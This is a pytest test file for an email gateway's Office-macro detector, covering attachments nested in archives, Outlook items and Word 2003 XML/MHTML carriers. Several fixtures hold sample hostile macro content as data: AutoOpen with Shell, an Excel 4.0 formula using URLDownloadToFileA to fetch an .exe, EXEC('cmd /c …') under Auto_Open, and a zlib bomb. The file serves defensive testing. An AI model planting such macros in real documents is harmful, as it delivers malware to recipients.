"""`office_macros` and documents.macros on messages built from the corpus' macro files
(tests/corpus/make_macros.py: real Word/Excel files, a VBA project made by Excel)."""

from __future__ import annotations

import base64
import email.policy
import io
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from email.message import EmailMessage
from pathlib import Path

import pytest
from pydantic import ValidationError

from gateway.config import load_config
from gateway.envelope import Envelope
from gateway.message.documents import Bounds, LimitExceeded, macros
from gateway.message.limits import ExpansionBudget
from gateway.message.view import MessageView, NotInspectable
from gateway.pipeline import inspect
from gateway.policy.checks import REGISTRY
from gateway.policy.checks.base import Context, Evidence
from gateway.policy_state import PolicyState, load_policy_for

REPO = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO / "tests" / "corpus"))
import make_macros as make  # noqa: E402
import make_outlook  # noqa: E402

MACROS = REPO / "tests" / "corpus" / "cases" / "macros"
CHECK = REGISTRY["office_macros"]
INBOUND = Envelope(direction="inbound", listener="t", client_ip="192.0.2.1", helo="x",
                   mail_from="luar@example.org", rcpt_to=("pegawai@anm.gov.my",))


def mail(*files: tuple[str, bytes], forwarded: bytes | None = None) -> bytes:
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = "luar@example.org", "pegawai@anm.gov.my", "Dokumen"
    m.set_content("Lampiran.")
    for name, data in files:
        m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    if forwarded is not None:
        m.add_attachment(forwarded, maintype="message", subtype="rfc822")
    return m.as_bytes(policy=email.policy.SMTP)


def run(levels: object, raw: bytes) -> Evidence | None:
    return CHECK.evaluate(CHECK.validate(levels), Context(MessageView(raw), INBOUND, ()))


def case(name: str) -> bytes:
    return (MACROS / name).read_bytes()


def test_levels_schema() -> None:
    assert CHECK.validate("autoexec") == frozenset({"autoexec"})
    assert CHECK.validate(["AutoExec", "suspicious"]) == frozenset({"autoexec", "suspicious"})
    for bad in ("autorun", [], ["present", 3.5], {"level": "present"}):
        with pytest.raises(ValidationError):
            CHECK.validate(bad)


def test_evidence_names_the_attachment_and_keywords() -> None:
    raw = mail(("Makro-AutoOpen.doc", case("Makro-AutoOpen.doc")),
               ("Makro-biasa.doc", case("Makro-biasa.doc")))
    got = run(["autoexec", "suspicious"], raw)
    assert got is not None
    [hit] = got["office_macros"]
    assert (hit["name"], hit["at"]) == ("Makro-AutoOpen.doc", "")
    assert hit["autoexec"] == ["AutoOpen"]
    assert {"Shell", "CreateObject"} <= set(hit["suspicious"])
    # `present` holds for both; a level neither file holds, for none.
    present = run("present", raw)
    assert present is not None and present["files"] == 2
    assert run("unreadable", raw) is None


def test_real_files_are_autoexec_but_not_suspicious() -> None:
    for name in ("autostart-encrypt-standardpassword.xls", "excel4_sample_macro.xls",
                 "oleform-PR314.docm"):
        raw = mail((name, case(name)))
        assert run("autoexec", raw) is not None, name
        assert run(["autoexec", "suspicious"], raw) is None, name


def test_no_macros_in_plain_documents_text_and_encrypted_packages() -> None:
    office = REPO / "tests" / "corpus" / "fixtures" / "office"
    raw = mail(("a.docx", (office / "example.docx").read_bytes()),
               ("b.doc", (office / "plain.doc").read_bytes()),
               ("c.docx", (office / "example_password.docx").read_bytes()),
               # olevba would read a text file as VBA source: never handed to it.
               ("d.bas", b'Sub AutoOpen()\r\n Shell "calc"\r\nEnd Sub\r\n'))
    assert run("present", raw) is None


def test_found_in_a_forwarded_message_a_tar_gz_and_an_outlook_item() -> None:
    doc = case("Makro-AutoOpen.doc")
    inner = mail(("minit.doc", doc))
    got = run(["autoexec", "suspicious"], mail(forwarded=inner))
    assert got is not None and got["office_macros"][0]["name"] == "minit.doc"

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        info = tarfile.TarInfo("arkib/minit.doc")
        info.size = len(doc)
        tf.addfile(info, io.BytesIO(doc))
    got = run("autoexec", mail(("arkib.tar.gz", buf.getvalue())))
    assert got is not None and got["office_macros"][0]["at"] == "arkib/minit.doc"

    item = make_outlook.outlook_msg(make_outlook.Message(
        subject="Minit", body="Lampiran.", attachments=[
            make_outlook.Attachment(long_name="minit.doc", data=doc)]))
    # At the top the item's files are attachments; inside a ZIP the walk opens it.
    got = run("suspicious", mail(("minit.msg", item)))
    assert got is not None and got["office_macros"][0]["name"].endswith("minit.doc")
    got = run("suspicious", mail(("item.zip", make.zip_of({"minit.msg": item}))))
    assert got is not None and got["office_macros"][0]["at"] == "minit.msg/minit.doc"


def test_a_project_olevba_cannot_read_is_unreadable_not_none() -> None:
    project = make.vba_project(make.AUTOEXEC_SUSPICIOUS)
    vba = project["VBA"]
    assert isinstance(vba, dict)
    vba["Modul1"] = b"\x01" + b"\xff" * 64  # a CompressedContainer that does not decompress
    vba["dir"] = b"\x01\x00"                # and a dir stream with no records
    data = make_outlook.cfb({**make.read_tree((REPO / "tests" / "corpus" / "fixtures" / "office" /
                                               "plain.doc").read_bytes()),
                             "Macros": project})
    state = macros.scan(data, Bounds())
    assert state.levels == ("present", "unreadable"), state
    got = run("unreadable", mail(("rosak.doc", data)))
    assert got is not None and "olevba" in got["office_macros"][0]["unreadable"]


def test_a_bound_met_makes_the_message_not_inspectable() -> None:
    # Nested deeper than max_archive_depth: no silent cut, the check raises.
    data = case("Makro-AutoOpen.doc")
    for level in range(12):
        data = make.zip_of({f"lapis{level}.zip" if level else "minit.doc": data})
    with pytest.raises(NotInspectable):
        run("present", mail(("lapis.zip", data)))


def test_compress_round_trips_through_olevba() -> None:
    from oletools.olevba import decompress_stream

    for text in (b"", b"Sub A()\r\nEnd Sub\r\n", bytes(range(256)) * 30):
        assert bytes(decompress_stream(bytearray(make.compress(text)))) == text
    with zipfile.ZipFile(io.BytesIO(case("Laporan-makro.docm"))) as zf:
        assert "word/vbaProject.bin" in zf.namelist()


# -- Text carriers (Word 2003 XML, MHTML, flat OPC), Excel 4.0 macro sheets in OOXML,
# -- and archives whose files are not read (7z, RAR) -----------------------------------

def activemime(ole_data: bytes) -> bytes:
    """An ActiveMime (MSO) blob as Word writes one: header, data offset (uint16 at 0x1E,
    + 46) 0x32, then the zlib-compressed OLE container (olevba's `mso_file_extract`)."""
    header = bytearray(b"ActiveMime".ljust(0x32, b"\0"))
    struct.pack_into("<H", header, 0x1E, 0x32 - 46)
    return bytes(header) + zlib.compress(ole_data)


def word2003(bindata: bytes, name: str = "editdata.mso", prolog: str = "") -> bytes:
    b64 = base64.encodebytes(bindata).decode("ascii")
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}\r\n'
            '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
            f'<w:docSuppData><w:binData w:name="{name}">{b64}</w:binData></w:docSuppData>'
            '<w:body><w:p><w:r><w:t>Laporan</w:t></w:r></w:p></w:body>'
            '</w:wordDocument>\r\n').encode("ascii")


def mhtml(mso: bytes) -> bytes:
    m = EmailMessage()
    m["MIME-Version"] = "1.0"
    m.set_content("<html><body>Laporan</body></html>", subtype="html")
    m.add_attachment(mso, maintype="application", subtype="x-mso", filename="editdata.mso")
    return m.as_bytes(policy=email.policy.SMTP)


def flat_opc(vba_bin: bytes) -> bytes:
    b64 = base64.encodebytes(vba_bin).decode("ascii")
    return ('<?xml version="1.0" standalone="yes"?>\r\n<?mso-application progid='
            '"Word.Document"?>\r\n<pkg:package xmlns:pkg='
            '"http://schemas.microsoft.com/office/2006/xmlPackage">'
            '<pkg:part pkg:name="/word/vbaProject.bin" '
            'pkg:contentType="application/vnd.ms-office.vbaProject">'
            f'<pkg:binaryData>{b64}</pkg:binaryData></pkg:part></pkg:package>').encode()


def test_word2003_xml_macros_are_read_by_content_whatever_the_name() -> None:
    data = word2003(activemime(case("Makro-AutoOpen.doc")))
    for name in ("laporan.xml", "laporan.doc", "nota.txt"):
        got = run(["autoexec", "suspicious"], mail((name, data)))
        assert got is not None, name
    # Inside a ZIP too, and without the usual name of the blob.
    inner = make.zip_of({"laporan.xml": word2003(activemime(case("Makro-biasa.doc")),
                                                 name="lain.bin")})
    assert macros.scan(inner, Bounds()).levels == ("present",)


def test_word2003_xml_without_a_project_has_no_macros() -> None:
    # A picture in binData is no project: olevba reads it and finds none.
    assert run("present", mail(("gambar.xml", word2003(b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
                                                        name="wordml://01.png")))) is None


def test_a_carrier_olevba_cannot_read_is_unreadable_not_none() -> None:
    broken = b"ActiveMime".ljust(0x300, b"\0") + b"\x78\x9c not zlib at all"
    for data in (word2003(broken), mhtml(broken),
                 word2003(activemime(case("Makro-AutoOpen.doc")))[:-40]):  # cut short
        state = macros.scan(data, Bounds())
        assert "unreadable" in state.levels, (state, data[:60])
        assert run("unreadable", mail(("laporan.doc", data))) is not None


def test_mhtml_and_flat_opc_macros_are_read() -> None:
    state = macros.scan(mhtml(activemime(case("Makro-AutoOpen.doc"))), Bounds())
    assert state.levels == ("present", "autoexec", "suspicious"), state
    vba_bin = make.vba_project_bin(make.AUTOEXEC_SUSPICIOUS)
    got = run(["autoexec", "suspicious"], mail(("laporan.xml", flat_opc(vba_bin))))
    assert got is not None


def test_a_carrier_is_read_within_the_bounds() -> None:
    # A zlib bomb in an ActiveMime blob: inflated no further than the budget left.
    bomb = word2003(b"ActiveMime".ljust(0x32, b"\0") + zlib.compress(b"\0" * 20_000_000, 9))
    small = Bounds(budget=ExpansionBudget(1_000_000))
    with pytest.raises(LimitExceeded):
        macros.scan(bomb, small)
    assert small.budget.spent <= 1_000_000
    # XML with a DOCTYPE (entity expansion, external entities): hostile.
    hostile = word2003(activemime(case("Makro-AutoOpen.doc")),
                       prolog='<!DOCTYPE w [<!ENTITY a "aaaa">]>')
    with pytest.raises(LimitExceeded):
        macros.scan(hostile, Bounds())


def xlsx_with(macrosheet: str | None, defined: str = "", part: str = "macrosheets/sheet1.xml"
              ) -> bytes:
    """A workbook, with an Excel 4.0 macro sheet holding `macrosheet`'s formulas."""
    sml = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    types = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.'
             'sheet.macroEnabled.main+xml"/>')
    rels = ('<Relationships xmlns='
            '"http://schemas.openxmlformats.org/package/2006/relationships">')
    files = {}
    if macrosheet is not None:
        types += (f'<Override PartName="/xl/{part}" '
                  'ContentType="application/vnd.ms-excel.macrosheet+xml"/>')
        rels += (f'<Relationship Id="rId1" Type="{rel}/xlMacrosheet" Target="{part}"/>')
        files[f"xl/{part}"] = (
            f'<xm:macrosheet xmlns="{sml}" xmlns:xm="http://schemas.microsoft.com/office/'
            f'excel/2006/main"><sheetData><row r="1"><c r="A1"><f>{macrosheet}</f></c></row>'
            '<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>')
    names = f"<definedNames>{defined}</definedNames>" if defined else ""
    files["[Content_Types].xml"] = types + "</Types>"
    files["xl/_rels/workbook.xml.rels"] = rels + "</Relationships>"
    files["xl/workbook.xml"] = (f'<workbook xmlns="{sml}"><sheets/>{names}</workbook>')
    package: bytes = make.zip_of({k: v.encode() for k, v in files.items()})
    return package


def test_xlm_macro_sheet_levels() -> None:
    auto = '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
    plain = xlsx_with('SUM(1,2)')
    assert macros.scan(plain, Bounds()).levels == ("present",)
    assert macros.scan(xlsx_with('SUM(1,2)', auto), Bounds()).levels == \
        ("present", "autoexec")
    state = macros.scan(xlsx_with(
        'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x/a","c:\\a.exe",0,0)'),
        Bounds())
    assert state.levels == ("present", "suspicious")
    assert state.found[0].suspicious == ("CALL", "URLDownloadToFileA"), state
    # Another part name: the content type and the relationship name it.
    renamed = xlsx_with('EXEC("calc.exe")', '<definedName name="Auto_Open1">A!$A$1'
                        '</definedName>', part="lain/helaian.xml")
    assert macros.scan(renamed, Bounds()).levels == ("present", "autoexec", "suspicious")
    # An ordinary workbook, and a macro sheet word in a cell's text, are nothing.
    assert macros.scan(xlsx_with(None), Bounds()).levels == ()
    got = run(["autoexec", "suspicious"], mail(("bajet.xlsx", xlsx_with(
        'EXEC("cmd /c x")', auto))))
    assert got is not None


@pytest.fixture(scope="module")
def sevenzip_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    if shutil.which("7zz") is None:
        pytest.skip("7zz (APT 7zip) is not installed")
    work = tmp_path_factory.mktemp("7z")
    (work / "laporan.docm").write_bytes(case("Laporan-makro.docm"))
    out = {}
    for name, extra in (("biasa.7z", []), ("rahsia.7z", ["-pRahsia123", "-mhe=on"])):
        subprocess.run(["7zz", "a", "-bso0", "-bsp0", *extra, name, "laporan.docm"],
                       cwd=work, check=True, timeout=60)
        out[name] = (work / name).read_bytes()
    return out


def shipped_policy() -> PolicyState:
    """The shipped config and rules; no clamd (tests never use the system's)."""
    config = load_config(REPO / "config" / "gateway.yaml")
    return load_policy_for(config.model_copy(update={"rules_dir": REPO / config.rules_dir,
                                                     "antivirus": None}))


def test_a_7z_archive_whose_files_are_not_read_is_unopened(
        sevenzip_files: dict[str, bytes]) -> None:
    state = macros.scan(sevenzip_files["biasa.7z"], Bounds())
    assert state.levels == ("unopened",), state  # not known to hold macros
    assert run("unopened", mail(("laporan.7z", sevenzip_files["biasa.7z"]))) is not None
    # Ordinary mail, not a document olevba failed on: not refused as unreadable.
    assert run("unreadable", mail(("laporan.7z", sevenzip_files["biasa.7z"]))) is None
    assert run("present", mail(("laporan.7z", sevenzip_files["biasa.7z"]))) is None
    raw = mail(("laporan.7z", sevenzip_files["biasa.7z"]))
    got = inspect(shipped_policy(), raw, INBOUND)
    assert got.reply is None, got.verdict.hits
    assert "makro-arkib-tidak-dibuka" in {h.rule_id for h in got.verdict.hits}
    inner = make.zip_of({"dalam.7z": sevenzip_files["biasa.7z"]})
    assert macros.scan(inner, Bounds()).found[0].path == "dalam.7z"
    # Encrypted: nothing to see, the encryption rules judge it (as attachment_unreadable).
    assert macros.scan(sevenzip_files["rahsia.7z"], Bounds()).levels == ()
